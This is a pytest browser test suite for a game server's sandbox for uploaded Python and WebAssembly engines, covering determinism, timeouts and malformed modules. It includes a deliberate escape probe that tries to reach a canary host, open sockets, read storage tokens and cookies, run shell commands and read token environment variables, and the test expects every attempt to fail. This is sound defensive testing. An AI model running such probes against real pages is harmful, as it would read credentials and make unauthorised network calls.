"""Uploaded engines in Python and WebAssembly: they run in the page's sandbox, agree with each other, and reach nothing."""

import asyncio
import json
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from functools import partial
from hashlib import sha256
from io import BytesIO
from pathlib import Path
from typing import TYPE_CHECKING, Any
from zipfile import ZipFile

import httpx
import pytest

from app.games.mod_files import candidate_at
from app.games.rules_bundle import engine_bundle, game_bundle
from ecs.game import Game
from net.drivers.asyncio_lockstep import LockstepPlayer
from systems.lockstep import LockstepEngine, MasterPacket
from tests.browser.engine_match import ROOT, built_engine
from tests.browser.engines import counting
from tests.browser.player import until
from tests.browser.test_lockstep import Open, assert_agree, begin, generation, has_run, join, sums
from tests.conftest import ServerProcess, end, start_server
from tests.mods.loading import MODS, load

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Route

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]
FOLDER = Path(__file__).with_name("engines")
COUNTING_PY = (FOLDER / "counting.py").read_bytes()
COUNTING_WASM = (FOLDER / "counting.wasm").read_bytes()
SETUP = {"players": [{"player": 0}, {"player": 1}]}
PYTHON, ZIP, WASM = "text/x-python", "application/zip", "application/wasm"
GENERATIONS = 40
Run = Callable[..., Any]
AN_ENGINE = """
class Engine:
    def init(self, seed, setup): {init}
    def step(self, master): {step}
    def checksum(self): {checksum}
    def dump(self): {dump}
    def load(self, dump): pass
def create(): return Engine()
"""
"""In Python, and without a Game: what else may be an engine."""


@pytest.fixture(scope="module", autouse=True)
def _engine() -> None:
    """All of these need the Python engine for browsers, but those of WebAssembly, which would be as good as none without."""
    built_engine()


@pytest.fixture(scope="module")
def shared_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    """One server for all of these tests: none of them changes anything there."""
    server = start_server(data=tmp_path_factory.mktemp("data"))
    yield server
    end(server)


@pytest.fixture
def page(chromium: "Browser", shared_server: ServerProcess) -> Iterator["Page"]:
    """A play page with a cookie and something in its storage, for an engine to find."""
    context = chromium.new_context()
    context.add_cookies([{"name": "secret", "value": "1", "url": shared_server.url}])
    page = context.new_page()
    page.set_default_timeout(120_000)
    page.goto(f"{shared_server.url}/join/none")
    page.evaluate("localStorage.token = sessionStorage.token = 'secret'")
    yield page
    context.close()


@pytest.fixture
def run(page: "Page", shared_server: ServerProcess) -> Run:
    """Opens an engine from its bytes and lets `act` (of the handle `engine`) have it; what that gives, or why it failed."""
    status, room = shared_server.request("POST", "/create", {"game": "arena"})
    assert status == 201
    prediction = shared_server.request("GET", f"/rooms/{room['room_id']}")[1]["prediction"]
    python = {**prediction, "archives": prediction["archives"][:-1]}

    def run(source: bytes, media_type: str, act: str, *values: object) -> Any:
        digest = sha256(source).hexdigest()
        path = f"/engines/{digest}"

        def fulfil(route: "Route") -> None:
            route.fulfill(body=source, content_type=media_type)

        page.route(f"**{path}", fulfil)
        entry = {
            "url": shared_server.url + path, "sha256": digest, "media_type": media_type, "uploaded": True,
            "python": python if media_type in (PYTHON, ZIP) else None,
        }  # fmt: skip
        return page.evaluate(
            f"""async ([entry, values]) => {{
                try {{
                    const engine = await tickroom.openEngine(entry);
                    const over = engine.ended.then((why) => ({{ ended: why }}));
                    const act = async () => {{
                        try {{ return await ({act})(engine, ...values); }}
                        catch (error) {{ return {{ error: error.name, message: error.message }}; }}
                    }};
                    const outcome = await Promise.race([act(), over]);
                    engine.end();
                    return outcome;
                }} catch (error) {{ return {{ error: error.name, message: error.message }}; }}
            }}""",
            [entry, list(values)],
        )

    return run


PLAY = """async (engine, seed, setup, masters) => {
    await engine.begin(seed, setup);
    const packets = masters.map(([generation, iterations, bodies]) => ({ generation, iterations, iteration_ms: 50,
        bodies: bodies.map(([player, body]) => [player, Uint8Array.from(body)]) }));
    const run = (master, told) => engine.run({ masters: [master], told, interval: 1, scenesFor: 0, commands: [], maxBody: 100 });
    const [half, results] = [packets.length / 2, []];
    for (const packet of packets) results.push(await run(packet, packet.generation));
    const dump = await engine.dump(half - 1);
    const all = (what) => results.flatMap((result) => result[what]);
    const again = await engine.again(half - 1, packets.length - 1);
    const loaded = await engine.load(half - 1, dump);
    return { sums: all("sums").map(([, sum]) => sum), again, loaded, dump: tickroom.readDump(dump),
             refusals: all("refusals"), events: all("events"), scene: all("scenes").at(-1) };
}"""
STEP = """async (engine) => {
    await engine.begin(1, { players: [] });
    const master = { generation: 0, iterations: 1, iteration_ms: 50, bodies: [] };
    await engine.run({ masters: [master], told: 0, interval: 1, scenesFor: 0, commands: [], maxBody: 100 });
    return new Promise(() => {});
}"""


def clicks(generations: int) -> list[Any]:
    """[generation, iterations, [[player, body], ...]]: one player clicks, the other clicks wrongly, and once it is nonsense."""
    click = list(b"\x91\x92\xa5click\x83\xa1x\x01\xa1y\x02\xa6button\x00")
    wrong = list(b"\x91\x92\xa5click\x83\xa1x\x01\xa1y\x02\xa6button\x02")
    return [
        [
            each,
            1 + each % 3,
            [[0, click]] + ([[1, wrong if each % 2 else [1, 2, 3]]] if each % 5 == 0 else []),
        ]
        for each in range(generations)
    ]


def native(game: Game, seed: int, setup: object, masters: list[Any]) -> tuple[LockstepEngine, list[int]]:
    """The same in this Python; the checksum of each generation."""
    engine = LockstepEngine(game)
    engine.init(seed, setup)
    found = []
    for number, iterations, bodies in masters:
        engine.step(
            MasterPacket(number, iterations, 50, tuple((player, bytes(body)) for player, body in bodies))
        )
        found.append(engine.checksum())
    return engine, found


def archive(files: dict[str, bytes]) -> bytes:
    """A zip archive of these."""
    data = BytesIO()
    with ZipFile(data, "w") as opened:
        for name, content in files.items():
            opened.writestr(name, content)
    return data.getvalue()


# --- in Python -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", ["a file", "an archive"])
def test_an_engine_in_python_computes_what_cpython_computes(run: Run, form: str) -> None:
    """Floats, sines and chance: each generation's checksum; the dump is loaded, and computed again from; what it refuses, tells
    and shows arrives."""
    source, kind = (
        (COUNTING_PY, PYTHON) if form == "a file" else (archive({"counting/game.py": COUNTING_PY}), ZIP)
    )
    masters = clicks(GENERATIONS)
    played = run(source, kind, PLAY, 7, SETUP, masters)
    engine, expected = native(counting.game, 7, SETUP, masters)
    assert played.get("message") is None, played
    assert played["sums"] == expected and len(set(expected)) == GENERATIONS
    assert (played["again"], played["loaded"]) == (expected[-1], expected[GENERATIONS // 2 - 1])
    assert played["dump"]["entities"].keys() == engine.dump()["entities"].keys()
    assert played["events"][-1] == {"name": "Counted", "player": 0}
    assert played["refusals"] == []  # those of others are not for this page
    assert played["scene"]["shapes"][0]["text"] == f"0: {GENERATIONS}" and played["scene"]["player"] == 0


def test_a_whole_mod_is_uploaded_as_an_archive(run: Run) -> None:
    """Skirmish, 30 files of it, with two armies that march: equal to CPython in 20 generations."""
    rules = game_bundle(candidate_at(MODS / "skirmish")).data
    setup = {
        "size": "small",
        "start": "army",
        "players": [{"player": 0, "team": 0}, {"player": 1, "team": 1}],
    }
    masters: list[Any] = [[each, 2, []] for each in range(20)]
    _, expected = native(load("skirmish"), 3, setup, masters)
    played = run(rules, ZIP, PLAY, 3, setup, masters)
    assert played.get("message") is None, played
    assert played["sums"] == expected and len(set(expected)) == 20


def test_a_setup_that_the_rules_refuse_is_no_failure(run: Run) -> None:
    """The reason is told, of Python and of WebAssembly, and the same engine then begins."""
    act = """async (engine, setup) => {
        const why = await engine.begin(1, { ...setup, bad: true }).catch((error) => [error.name, error.message]);
        await engine.begin(1, setup);
        return why;
    }"""
    for source, kind in ((COUNTING_PY, PYTHON), (COUNTING_WASM, WASM)):
        assert run(source, kind, act, SETUP) == ["EngineRefused", "too bad"]


def test_commands_of_a_page_get_the_games_own_form(run: Run) -> None:
    """The plain view's click comes out as the one canonical body, whatever order its fields had; an unknown one as it is."""
    act = """async (engine, setup) => {
        await engine.begin(1, setup);
        const order = { masters: [], told: -1, interval: 1, scenesFor: 0, maxBody: 100,
                        commands: [["click", { button: 0, y: 2, x: 1 }], ["dance", {}]] };
        const { body, used } = await engine.run(order);
        return [[...body], used];
    }"""
    body, used = run(COUNTING_PY, PYTHON, act, SETUP)
    expected = b"\x92\x92\xa5click\x83\xa1x\x01\xa1y\x02\xa6button\x00\x92\xa5dance\x80"
    assert (bytes(body), used) == (expected, 2)


HOSTILE_PY = """
import js, os
reached, refused = [], []
def attempt(name, act):
    try:
        found = act()
        (reached if found else refused).append(name if not found else f"{name}: {found!r}"[:200])
    except BaseException as error:
        refused.append(name)
def fetched(address):
    from pyodide.ffi import run_sync
    return run_sync(js.fetch(address)).status
def asked(address):
    request = js.XMLHttpRequest.new()
    request.open("GET", address, False)
    request.send()
    return request.status
def opened(address):
    import urllib.request
    return urllib.request.urlopen(address, timeout=2).status
def connected():
    import socket
    with socket.create_connection(("127.0.0.1", int("__CANARY__".rpartition(":")[2])), 2) as plug:
        plug.sendall(b"GET /socket HTTP/1.0\\r\\n\\r\\n")
        return plug.recv(1) or "connected"
def installed():
    from pyodide.ffi import run_sync
    import pyodide_js
    run_sync(pyodide_js.loadPackage("__CANARY__/x-1.0-py3-none-any.whl"))
    return "asked for"
for where, address in {"the server": "__SERVER__/games", "another": "__CANARY__/fetch", "the engine": "/assets/engine/"}.items():
    attempt(f"fetch {where}", lambda: fetched(address))
    attempt(f"XMLHttpRequest {where}", lambda: asked(address))
    attempt(f"urllib {where}", lambda: opened(address))
attempt("socket", connected)
attempt("loadPackage", installed)
attempt("localStorage", lambda: js.localStorage.token)
attempt("sessionStorage", lambda: js.sessionStorage.token)
attempt("document", lambda: js.document.cookie)
attempt("parent", lambda: js.parent.location.href)
attempt("opener", lambda: js.opener)
attempt("indexedDB", lambda: js.indexedDB.open("x") and "opened")
attempt("caches", lambda: js.caches.open("x") and "opened")
attempt("origin", lambda: None if js.self.origin == "null" else js.self.origin)
attempt("Worker", lambda: js.Worker.new("__SERVER__/assets/x.js"))
attempt("WebSocket", lambda: js.WebSocket.new("__SERVER__".replace("http", "ws")))
attempt("EventSource", lambda: js.EventSource.new("__SERVER__/games"))
attempt("importScripts", lambda: js.importScripts("__CANARY__/script.js"))
attempt("sendBeacon", lambda: js.navigator.sendBeacon("__CANARY__/beacon"))
attempt("eval", lambda: js.eval("1 + 1"))
attempt("Function", lambda: js.Function.new("return 1")())
attempt("BroadcastChannel", lambda: js.BroadcastChannel.new("x"))
attempt("files", lambda: [name for name in os.listdir("/") if name in ("etc", "root", "work", "usr")])
attempt("processes", lambda: os.system("id") == 0)
attempt("environment", lambda: {k: v for k, v in os.environ.items() if "token" in k.lower()})
"""


def test_an_engine_in_python_reaches_nothing(
    page: "Page", run: Run, shared_server: ServerProcess, canary: tuple[str, list[str]]
) -> None:
    """By Python's own means and by JavaScript's: no network, no storage, nothing of the page; nobody was asked anything."""
    address, visits = canary
    report = "return {'reached': reached, 'refused': refused}"
    hostile = HOSTILE_PY.replace("__CANARY__", address).replace("__SERVER__", shared_server.url)
    source = hostile + AN_ENGINE.format(init="pass", step="pass", checksum="return 1", dump=report)
    asked: list[str] = []
    page.context.on("requestfinished", lambda request: asked.append(request.url))
    act = STEP.replace("return new Promise(() => {});", "return tickroom.readDump(await engine.dump(0));")
    found = run(source.encode(), PYTHON, act)
    assert found.get("reached") == [], found
    assert len(found["refused"]) >= 26 and visits == []
    ours = ("/engines/", "/assets/", "/sandbox", "/rules/")
    assert [
        url for url in asked if not url.startswith("blob:") and not any(each in url for each in ours)
    ] == []
    assert page.locator("iframe").count() == 0


def in_python(**bodies: str) -> bytes:
    """An engine that does nothing but for these."""
    plain = {"init": "pass", "step": "pass", "checksum": "return 1", "dump": "return {}"}
    return AN_ENGINE.format(**{**plain, **bodies}).encode()


LOOPS = {
    "in a step": in_python(step="\n        while True: pass"),
    "at the beginning": in_python(init="\n        while True: pass"),
    "while it is imported": b"while True: pass\n" + in_python(),
}


@pytest.mark.parametrize("where", LOOPS)
def test_an_engine_in_python_that_loops_for_ever_is_ended(page: "Page", run: Run, where: str) -> None:
    """After fifteen seconds without a sign of life, and the page says so; the frame is gone, the page is alive."""
    outcome = run(LOOPS[where], PYTHON, STEP)
    assert "not answered for 15 seconds" in (outcome.get("ended") or outcome["message"])
    assert page.locator("iframe").count() == 0 and page.evaluate("1 + 1") == 2


WRONG = {
    "NoEngine: the module has neither": b"x = 1",
    "No module named 'numpy'": b"import numpy",
    "OverflowError: a step too far": in_python(step="raise OverflowError('a step too far')"),
}


@pytest.mark.parametrize("sentence", WRONG)
def test_what_is_no_engine_in_python_is_named(page: "Page", run: Run, sentence: str) -> None:
    """One sentence of what was wrong: of the upload, of its import, of what it does."""
    outcome = run(WRONG[sentence], PYTHON, STEP)
    assert sentence in (outcome.get("ended") or outcome["message"])
    assert page.locator("iframe").count() == 0


def test_a_server_without_python_for_browsers_says_so(page: "Page", shared_server: ServerProcess) -> None:
    """In the room's listing, and the page says it too."""
    entry = {
        "url": f"{shared_server.url}/engines/x", "sha256": "", "media_type": PYTHON, "uploaded": True,
        "python": {"engine": "", "archives": [], "reason": "It is not built here."},
    }  # fmt: skip
    sentence = page.evaluate("(entry) => tickroom.openEngine(entry).catch((error) => error.message)", entry)
    assert sentence == "This game's engine is in Python. It is not built here."


# --- in WebAssembly --------------------------------------------------------------------------------------------------


def test_an_engine_in_webassembly_runs(run: Run) -> None:
    """Checksums move; a dump is loaded and computed again from to the same ones; the scene arrives."""
    played = run(COUNTING_WASM, WASM, PLAY, 7, SETUP, clicks(GENERATIONS))
    assert played.get("message") is None, played
    assert len(set(played["sums"])) == GENERATIONS
    assert (played["again"], played["loaded"]) == (played["sums"][-1], played["sums"][GENERATIONS // 2 - 1])
    assert len(played["dump"]["state"]) == 32
    assert played["scene"]["shapes"] == [{"shape": "circle", "x": 79, "y": 50, "w": 8}]
    assert run(COUNTING_WASM, WASM, PLAY, 7, SETUP, clicks(GENERATIONS))["sums"] == played["sums"]


def test_the_engine_in_webassembly_is_made_of_its_source(tmp_path: Path) -> None:
    """The same bytes again, by the compiler that the build of the Python engine has fetched."""
    python = ROOT / "build" / "work" / "engine" / "fetched" / "venv" / "bin" / "python"
    if not python.exists():
        pytest.skip("no compiler is there: the Python engine was not built in this folder")
    shutil.copy(FOLDER / "counting.c", tmp_path)
    [line] = [each for each in (FOLDER / "counting.c").read_text().splitlines() if "-m ziglang cc" in each]
    environment = {"ZIG_GLOBAL_CACHE_DIR": str(tmp_path), "ZIG_LOCAL_CACHE_DIR": str(tmp_path)}
    command = [str(python), *line.removeprefix("//").split()[1:]]
    subprocess.run(command, cwd=tmp_path, env=environment, check=True, timeout=120)
    assert (tmp_path / "counting.wasm").read_bytes() == COUNTING_WASM


def leb(number: int) -> bytes:
    """An unsigned number as WebAssembly writes it."""
    return bytes([number]) if number < 128 else bytes([number & 127 | 128]) + leb(number >> 7)


def signed(number: int) -> bytes:
    """A signed one."""
    low, rest = number & 127, number >> 7
    done = (rest == 0 and not low & 64) or (rest == -1 and low & 64)
    return bytes([low]) if done else bytes([low | 128]) + signed(rest)


I32, I64 = 0x7F, 0x7E
TYPES = {
    "allocate": ([I32], [I32]), "init": ([I64, I32, I32], [I64]), "step": ([I32, I32], []), "checksum": ([], [I32]),
    "dump": ([], [I64]), "load": ([I32, I32], []), "scene": ([I32], [I64]), "events": ([], [I64]), "result": ([], [I64]),
}  # fmt: skip
PLAIN = {
    "allocate": b"\x41\x00", "init": b"\x42\x00", "step": b"", "checksum": b"\x41\x01", "load": b"",
    "dump": b"\x42" + signed(1 << 32),  # the byte 0 of the memory, which is MessagePack's 0
}  # fmt: skip


def module(
    *, memory: bytes = b"\x00\x01", leave_out: str = "", imports: bytes = b"", **bodies: bytes
) -> bytes:
    """A module that does nothing but for these bodies, each the instructions of a function of this name."""
    functions = {name: body for name, body in {**PLAIN, **bodies}.items() if name != leave_out}

    def section(number: int, *items: bytes) -> bytes:
        content = leb(len(items)) + b"".join(items)
        return bytes([number]) + leb(len(content)) + content

    def vector(items: list[int]) -> bytes:
        return leb(len(items)) + bytes(items)

    def named(name: str, kind: int, index: int) -> bytes:
        return leb(len(name)) + name.encode() + bytes([kind]) + leb(index)

    types = [b"\x60" + vector(TYPES[name][0]) + vector(TYPES[name][1]) for name in functions]
    exports = [named(name, 0, place + bool(imports)) for place, name in enumerate(functions)]
    code = [leb(len(body) + 2) + b"\x00" + body + b"\x0b" for body in functions.values()]
    return b"\0asm\x01\0\0\0" + b"".join(
        [section(1, *types)]
        + ([section(2, imports)] if imports else [])
        + [section(3, *(leb(place) for place in range(len(functions)))), section(5, memory)]
        + [
            section(7, *exports, *([named("memory", 2, 0)] if leave_out != "memory" else [])),
            section(10, *code),
        ]
    )


FAR = b"\x42" + signed((16 << 32) | 65_530)
BAD_MODULES = {
    "no memory": module(leave_out="memory"),
    "no function dump": module(leave_out="dump"),
    "imports env.f": module(imports=b"\x03env\x01f\x00\x02"),
    "dump points outside of its memory": module(dump=FAR),
    "scene points outside of its memory": module(scene=FAR),
    "bytes: more than 8388608": module(dump=b"\x42" + signed(1 << 60)),
    "bytes: more than 1024": module(init=b"\x42" + signed(60_000 << 32)),
    "allocate points outside of its memory": module(allocate=b"\x41" + signed(-1)),
    "more than 268435456": module(memory=b"\x00\x81\x20", dump=PLAIN["dump"]),
    "events are no list": module(events=PLAIN["dump"]),
    "unreachable": module(step=b"\x00"),
    "not answered for 5 seconds": module(step=b"\x03\x40\x0c\x00\x0b"),
    "WebAssembly.compile": b"\0asm\x01\0\0\0 nothing",
    "Maximum call stack": module(step=b"\x41\x00\x41\x00\x10\x02"),
}


@pytest.mark.parametrize("sentence", BAD_MODULES)
def test_a_bad_module_is_named_and_ended(page: "Page", run: Run, sentence: str) -> None:
    """What it exports, what it imports, where it points and how much it gives: each is looked at, and said."""
    outcome = run(BAD_MODULES[sentence], WASM, STEP)
    assert sentence in (outcome.get("ended") or outcome["message"]), outcome
    assert page.locator("iframe").count() == 0 and page.evaluate("1 + 1") == 2


def test_the_plain_module_of_these_tests_is_an_engine(run: Run) -> None:
    """So that each of the others is refused for what is wrong with it, and for nothing else."""
    act = STEP.replace("return new Promise(() => {});", "return 'it runs';")
    assert run(module(), WASM, act) == "it runs"


# --- rooms -----------------------------------------------------------------------------------------------------------


def upload(server: ServerProcess, name: str, source: bytes) -> str:
    """A room with this engine; the address of its page."""
    room = json.dumps({"name": "Mine", "seed": 11, "rules": {"generation": 50.0}})
    with httpx.Client(trust_env=False) as client:
        answer = client.post(f"{server.url}/create", files={"engine": (name, source), "room": (None, room)})
    assert answer.status_code == 201, answer.text
    return str(answer.json()["join_url"])


@pytest.mark.parametrize(("name", "source"), [("mine.wasm", COUNTING_WASM), ("mine.py", COUNTING_PY)])
def test_two_pages_play_an_uploaded_engine(
    server: ServerProcess, open_page: Open, name: str, source: bytes
) -> None:
    """Both run it in their sandbox, click, see, and agree in every generation."""
    address = upload(server, name, source)
    ada, ben = join(open_page, address, "Ada"), join(open_page, address, "Ben")
    begin(ada, ben)
    for page in (ada, ben):
        page.locator("canvas.plain-view").wait_for()
        assert page.locator("iframe[sandbox=allow-scripts]").count() == 1
        page.mouse.click(640, 600)
    first = generation(ada)
    until(ada, partial(has_run, ada, first + 20), "twenty generations with clicks")
    assert_agree(ada, ben)


def test_a_page_and_a_python_client_play_an_uploaded_engine(server: ServerProcess, open_page: Open) -> None:
    """The client has the same file, in CPython; the page runs it in Pyodide, clicks, and both have the same checksums."""
    address = upload(server, "mine.py", COUNTING_PY)
    ada = join(open_page, address, "Ada")
    room_id = address.rpartition("/")[2]
    status, seat = server.request("POST", f"/join/{room_id}", {"username": "Ben"})
    assert status == 200
    ben = Companion(seat["socket_url"], seat["token"])
    try:
        ada.get_by_role("button", name="Ready", exact=True).click()
        until(ada, partial(has_run, ada, 5), "the match runs")
        ada.mouse.click(640, 600)
        until(ada, partial(has_run, ada, generation(ada) + 20), "twenty generations with a click")
    finally:
        own = ben.stop()
    theirs = {int(number): sum_ for number, sum_ in sums(ada).items()}
    common = own.keys() & theirs.keys()
    assert len(common) >= 10
    assert all(own[number] == theirs[number] for number in common)


class Companion:
    """A client in Python on a loop and a thread of its own: playwright has this one's."""

    def __init__(self, socket_url: str, token: str) -> None:
        self._stop = threading.Event()
        self._sums: dict[int, int] = {}
        self._failure: list[BaseException] = []
        self._thread = threading.Thread(target=self._main, args=(socket_url, token))
        self._thread.start()

    def stop(self) -> dict[int, int]:
        """The checksums of the generations that it ran. Raises what went wrong."""
        self._stop.set()
        self._thread.join(30)
        if self._failure:
            raise self._failure[0]
        return self._sums

    def _main(self, socket_url: str, token: str) -> None:
        try:
            asyncio.run(self._play(socket_url, token))
        except BaseException as failure:  # noqa: BLE001 - it is raised where the test waits
            self._failure.append(failure)

    async def _play(self, socket_url: str, token: str) -> None:
        async with LockstepPlayer(socket_url, token, lambda: Noting(self._sums)) as player:
            assert await player.ask("put", "ready", True) == 200
            await player.until(self._stop.is_set)


class Noting(LockstepEngine):
    """The engine of the upload here, which keeps its checksums."""

    def __init__(self, found: dict[int, int]) -> None:
        super().__init__(counting.game)
        self._found = found

    def step(self, master: MasterPacket) -> None:
        super().step(master)
        self._found[master.generation] = self.checksum()


def test_an_installed_game_without_an_engine_in_javascript_is_played(
    serve: Callable[..., ServerProcess], open_page: Open, tmp_path: Path
) -> None:
    """Its rules in Python are run in the page, in the same sandbox; its setup, scenes and result are those of any."""
    (tmp_path / "mods").mkdir()
    (tmp_path / "mods" / "counting.py").write_bytes(COUNTING_PY)
    config = tmp_path / "tickroom.toml"
    config.write_text(f"[mods]\nexamples = false\nfolders = ['{tmp_path / 'mods'}']\n", encoding="utf-8")
    server = serve("--config", str(config))
    status, room = server.request("POST", "/create", {"game": "counting", "rules": {"generation": 50.0}})
    assert status == 201, room
    ada = join(open_page, room["join_url"], "Ada")
    ada.get_by_role("button", name="Ready", exact=True).click()
    until(ada, partial(has_run, ada, 10), "the match runs")
    assert ada.locator("iframe[sandbox=allow-scripts]").count() == 1


def test_the_archives_that_a_sandbox_is_given_are_those_of_the_server(server: ServerProcess) -> None:
    """A room with an engine in Python says where Python and its code are; one in JavaScript says nothing of it."""
    room_id = upload(server, "mine.zip", archive({"game.py": COUNTING_PY})).rpartition("/")[2]
    engine = server.request("GET", f"/rooms/{room_id}")[1]["engine"]
    assert engine["media_type"] == ZIP and engine["python"]["reason"] == ""
    assert engine["python"]["archives"][0] == f"/rules/{engine_bundle().digest}.zip"
    room_id = upload(server, "mine.js", b"export const create = 1;").rpartition("/")[2]
    assert server.request("GET", f"/rooms/{room_id}")[1]["engine"]["python"] is None
